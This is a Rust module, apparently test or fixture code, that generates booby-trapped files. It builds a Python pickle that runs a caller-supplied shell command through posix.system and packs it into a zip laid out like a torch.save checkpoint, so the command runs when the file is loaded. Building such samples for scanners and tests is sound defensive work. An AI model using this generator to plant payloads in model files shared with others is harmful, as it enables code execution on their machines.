//! Files made to do harm.

/// A pickle that runs `command` where pickles are executed: `posix.system(command)`, protocol 2.
pub fn pickle_that_runs(command: &str) -> Vec<u8> {
    let mut pickle = b"\x80\x02cposix\nsystem\nq\0X".to_vec();
    pickle.extend((command.len() as u32).to_le_bytes());
    pickle.extend(command.as_bytes());
    pickle.extend(b"q\x01\x85q\x02Rq\x03.");
    pickle
}

/// The pickle in a zip archive, as `torch.save` writes one.
pub fn torch_file(pickle: &[u8]) -> Vec<u8> {
    let files: [(&str, &[u8]); 2] = [("archive/data.pkl", pickle), ("archive/version", b"3\n")];
    let (mut zip, mut directory) = (Vec::new(), Vec::new());
    for (name, bytes) in files {
        let offset = zip.len() as u32;
        let about = about(name, bytes);
        zip.extend(b"PK\x03\x04\x14\0");
        zip.extend(&about);
        zip.extend(name.as_bytes());
        zip.extend(bytes);
        directory.extend(b"PK\x01\x02\x14\0\x14\0");
        directory.extend(&about);
        // Comment, disk, attributes: none.
        directory.extend([0; 10]);
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let (start, size, count) = (zip.len() as u32, directory.len() as u32, files.len() as u16);
    zip.extend(directory);
    zip.extend(b"PK\x05\x06\0\0\0\0");
    zip.extend([count, count].map(u16::to_le_bytes).concat());
    zip.extend([size, start].map(u32::to_le_bytes).concat());
    zip.extend([0; 2]);
    zip
}

/// Flags, method (stored), time, checksum, sizes, length of the name, no extra field.
fn about(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut about = vec![0; 8];
    about.extend(crc32(bytes).to_le_bytes());
    about.extend([bytes.len() as u32; 2].map(u32::to_le_bytes).concat());
    about.extend((name.len() as u16).to_le_bytes());
    about.extend([0; 2]);
    about
}

fn crc32(bytes: &[u8]) -> u32 {
    let step = |crc: u32| (crc >> 1) ^ (0xedb8_8320 & (crc & 1).wrapping_neg());
    let byte = |crc: u32, byte: &u8| (0..8).fold(crc ^ u32::from(*byte), |crc, _| step(crc));
    !bytes.iter().fold(!0, byte)
}
